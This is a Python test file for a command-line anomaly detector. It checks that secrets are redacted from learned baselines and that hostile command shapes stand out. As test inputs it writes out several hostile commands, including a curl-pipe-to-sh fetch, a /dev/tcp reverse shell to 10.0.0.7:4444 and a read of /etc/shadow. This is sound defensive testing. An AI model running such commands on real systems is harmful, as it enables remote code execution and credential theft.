"""Shapes of command lines: what they tell, and what they keep to themselves."""

from __future__ import annotations

import polars as pl
import pytest

from rtml.features import learn, windows
from rtml.features.arguments import LONGEST, MOST, shape
from rtml.testing.events import events

SECRET = "Zx9pQ4rT"
LONG = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQDf+7aGx/kq3v=="
HIDING = [
    f"mysql -u root -p{SECRET} shop",
    f"mysql --password={SECRET} shop",
    f"psql postgresql://admin:{SECRET}@db.shop/orders",
    f"curl -u admin:{SECRET} https://{SECRET}.example/{SECRET}?token={SECRET}",
    f"curl -H Authorization: Bearer {SECRET} https://api.example",
    f"sh -c export TOKEN={SECRET}; echo {SECRET} | docker login --password-stdin",
    f"env AWS_SECRET_ACCESS_KEY={SECRET} aws s3 ls",
    f"sshpass -p{SECRET} ssh host",
    f"redis-cli -a {SECRET} get x",
    f"openssl enc -k {LONG}",
    f"deploy /{LONG}",
    f"echo {SECRET.lower()}",
    f"sh -c printf '{SECRET}' > /tmp/k",
]


def shapes(*lines: str | None) -> list[str | None]:
    return pl.DataFrame({"c": lines}, {"c": pl.String}).select(shape(pl.col("c")))["c"].to_list()


@pytest.mark.parametrize("line", HIDING)
def test_secrets_stay_out(line):
    (text,) = shapes(line)
    assert SECRET.lower() not in text.lower()
    assert LONG[:12] not in text


def test_no_secret_gets_into_a_baseline():
    rows = [{"kind": "exec", "exe": "/bin/x", "cmdline": line} for line in HIDING]
    counts = learn(events(rows), families=["commands"]).counts
    text = counts.write_csv().lower()
    assert counts.height > 10
    assert SECRET.lower() not in text
    assert LONG[:12].lower() not in text


def test_numbers_names_and_temporary_files_make_no_difference():
    assert (
        len(
            set(
                shapes(
                    "as --64 -o /tmp/ccA1b2C3.o /tmp/ccX9y8Z7.s", "as --64 -o /tmp/ccQwErTy.o /tmp/ccAsDfGh.s"
                )
            )
        )
        == 1
    )
    assert len(set(shapes("curl -m 3 http://a.shop/1", "curl -m 10 http://b.shop/other?x=2"))) == 1
    assert len(set(shapes("git commit -m round 7", "git commit -m round 18"))) == 1


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("curl -s http://web.shop/", "curl -s http://10.0.0.7/"),
        ("sh -c curl -s http://a/x", "sh -c curl -s http://a/x | sh"),
        ("cat /etc/os-release", "cat /etc/shadow"),
        ("python3 /srv/app.py", "python3 - 10.0.0.7 8000"),
        ("bash -c date", "bash -c exec 9<>/dev/tcp/10.0.0.7/4444"),
        ("git fetch", "git config"),
    ],
)
def test_what_differs_tells(one, other):
    assert len(set(shapes(one, other))) == 2


def test_one_line_does_not_change_another():
    lines = ["sh -c a | b", None, "", "x", *HIDING]
    assert shapes(*lines) == [shapes(line)[0] for line in lines]
    assert shapes(None, "", "x") == [None, "", ""]


def test_hostile_lines_have_short_shapes():
    lines = [
        "x " + " ".join(f"-{chr(97 + n % 26)}{chr(97 + n // 26)}" for n in range(500)),
        "a" * 10**6,
        "\x00 \x1b[31m \n -x",
    ]
    for text in shapes(*lines, "x " + "/" * 10**6, "x /" + "a/" * LONGEST):
        assert len(text.split(" ")) <= MOST
        assert text.isprintable()


def test_a_shape_and_a_user_that_the_program_never_had_are_surprising():
    base = {"kind": "exec", "exe": "/usr/bin/curl", "uid": 33}
    history = learn(events([{**base, "cmdline": "curl -fsS http://web/health"}] * 40), families=["commands"])
    rows = [
        {**base, "cmdline": "curl -fsS http://api/"},
        {**base, "cmdline": "curl -s http://10.0.0.7/ | sh", "seconds": 60},
        {**base, "cmdline": "curl -fsS http://api/", "uid": 0, "seconds": 120},
        {**base, "cmdline": "curl -fsS http://api/", "euid": 0, "seconds": 180},
    ]
    table = windows(events(rows), history, ["commands"])
    assert [bits > 3 for bits in table["commands.shape_bits_max"]] == [False, True, False, False]
    assert [bits > 3 for bits in table["commands.user_bits_max"]] == [False, False, True, True]
    assert table["commands.longest"].to_list() == [11, 16, 11, 11]
    assert table["commands.users"].to_list() == [1, 1, 1, 1]
